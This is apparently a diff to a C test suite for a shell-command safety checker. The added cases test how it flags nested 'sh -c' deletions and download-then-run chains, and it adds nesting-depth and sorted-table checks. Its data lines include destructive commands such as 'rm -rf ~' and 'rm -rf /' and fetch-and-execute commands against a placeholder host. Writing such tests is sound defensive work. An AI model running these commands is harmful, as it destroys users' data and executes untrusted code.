@@ -35,6 +35,7 @@
  * checks.
  */
 #include "policy/ow-safety.h"
+#include "policy/ow-safety-private.h"
 
 #include <glib/gstdio.h>
 #include <string.h>
@@ -385,6 +386,8 @@ static const Case delete_cases[] = {
   { NULL, "sh <<< 'rm -rf /'", WO | RD, "the whole file system" },
   { NULL, "sudo sh -c 'rm -rf /opt/x'", WO | RD, "outside" },
   { NULL, "xargs -I{} sh -c 'rm -rf ~/elsewhere' < f", WO | RD, "outside" },
+  { NULL, "sh $opts -c 'rm -rf ~'", WO | RD, "your home folder" },
+  { NULL, "busybox sh -c 'zsh -c \"dash -c \\\"rm -rf ~\\\"\"'", WO | RD, "your home folder" },
   { NULL, "cmd /c rmdir /s /q C:\\\\Users", RD, "folder tree" },
   { NULL, "powershell -Command \"Remove-Item -Recurse -Force C:\\\\x\"", RD, "folder tree" },
   { NULL, "echo rm -rf ~", 0, NULL },
@@ -782,6 +785,10 @@ static const Case download_cases[] = {
   { NULL, "powershell -c \"iex (iwr https://e.com/x.ps1)\"", DL, "downloads" },
   { NULL, "curl -o i.sh https://e.com/i.sh && sh i.sh", DL,
     "i.sh, a file this session downloaded" },
+  { NULL, "bash -c 'curl -o i.sh https://e.com/i.sh' && sh i.sh", DL,
+    "i.sh, a file this session downloaded" },
+  { NULL, "sh -c 'curl -o i.sh https://e.com/i.sh; zsh -c \"sh ./i.sh\"'", DL,
+    "./i.sh, a file this session downloaded" },
   { NULL, "curl -O https://e.com/i.sh && bash i.sh", DL, "downloaded" },
   { NULL, "wget https://e.com/setup.sh; chmod +x setup.sh; ./setup.sh", DL, "./setup.sh" },
   { NULL, "curl -L https://e.com/tool > tool && chmod +x tool && ./tool", DL, "./tool" },
@@ -901,6 +908,68 @@ static void
 test_unreadable (void)
 {
   run_table (unreadable_cases, G_N_ELEMENTS (unreadable_cases));
+}
+
+/* check_command finds programs by bsearch: its table must be sorted and
+ * hold each name once. */
+static void
+test_program_table (void)
+{
+  static const char *const good[] = { "a", "b", "c" };
+  static const char *const unsorted[] = { "a", "c", "b" };
+  static const char *const twice[] = { "a", "b", "b", "c" };
+  const char *bad = NULL;
+
+  if (!ow_safety_programs_sorted (&bad))
+    g_error ("the program table is not sorted or holds a name twice, at \"%s\"", bad);
+  /* the check itself can fail */
+  g_assert_true (ow_safety_names_sorted (good, G_N_ELEMENTS (good), sizeof good[0], NULL));
+  g_assert_false (ow_safety_names_sorted (unsorted, G_N_ELEMENTS (unsorted), sizeof unsorted[0], &bad));
+  g_assert_cmpstr (bad, ==, "b");
+  bad = NULL;
+  g_assert_false (ow_safety_names_sorted (twice, G_N_ELEMENTS (twice), sizeof twice[0], &bad));
+  g_assert_cmpstr (bad, ==, "b");
+}
+
+/* sh -c strings are read to the depth the deny rules and floors share
+ * (OW_SHELL_MAX_NESTING); one level deeper, every check applies. */
+static void
+test_nesting (void)
+{
+  g_autoptr(World) w = world_new ();
+  static const char *const shells[] = { "busybox sh", "ksh", "dash", "zsh", "bash", "sh", "mksh" };
+  char *wipe = g_strdup ("rm -rf ~"), *echo = g_strdup ("echo hello");
+
+  for (guint level = 1; level <= OW_SHELL_MAX_NESTING + 1; level++)
+    {
+      const char *shell = shells[level % G_N_ELEMENTS (shells)];
+      g_autofree char *qw = g_shell_quote (wipe), *qe = g_shell_quote (echo);
+      g_autofree char *reasons = NULL;
+      guint checks;
+
+      g_free (wipe);
+      g_free (echo);
+      wipe = g_strdup_printf ("%s -c %s", shell, qw);
+      echo = g_strdup_printf ("%s -c %s", shell, qe);
+      checks = judge (w, NULL, echo, &reasons);
+      if (level <= OW_SHELL_MAX_NESTING)
+        {
+          if (checks != 0)
+            g_error ("a harmless command %u levels down: %s (%s)", level, echo, reasons);
+          g_clear_pointer (&reasons, g_free);
+          if (judge (w, NULL, wipe, &reasons) != (WO | RD) || strstr (reasons, "your home folder") == NULL)
+            g_error ("rm -rf ~ %u levels down: %s (%s)", level, wipe, reasons);
+        }
+      else
+        {
+          g_autofree char *deep = g_strdup_printf ("more than %d deep", OW_SHELL_MAX_NESTING);
+
+          if (checks != ALL || strstr (reasons, deep) == NULL)
+            g_error ("%u levels were not refused as too deep: %s (%s)", level, echo, reasons);
+        }
+    }
+  g_free (wipe);
+  g_free (echo);
 }
 
 /* The same action through a file tool and through the shell gives the
@@ -1047,6 +1116,11 @@ test_downloads_of (void)
     { "curl https://e.com/api", "" },
     { "echo https://e.com/x > f", "" },
     { "curl -o \"$F\" https://e.com/x", "" },
+    /* inside sh -c and eval, as deep as the checks read */
+    { "bash -c 'curl -o x.sh https://e.com/i.sh'", "x.sh" },
+    { "sudo sh -c \"dash -c 'wget -O y.sh https://e.com/i.sh'\"", "y.sh" },
+    { "eval curl -o z.sh https://e.com/i.sh", "z.sh" },
+    { "sh -c 'echo curl -o x.sh'", "" },
     { "echo \"unterminated", "" },
   };
 
@@ -1132,6 +1206,8 @@ main (int argc, char **argv)
 {
   g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);
   g_test_add_func ("/ow/policy/safety/delete", test_delete);
+  g_test_add_func ("/ow/policy/safety/nesting", test_nesting);
+  g_test_add_func ("/ow/policy/safety/program-table", test_program_table);
   g_test_add_func ("/ow/policy/safety/write", test_write);
   g_test_add_func ("/ow/policy/safety/protected", test_protected);
   g_test_add_func ("/ow/policy/safety/authority", test_authority);
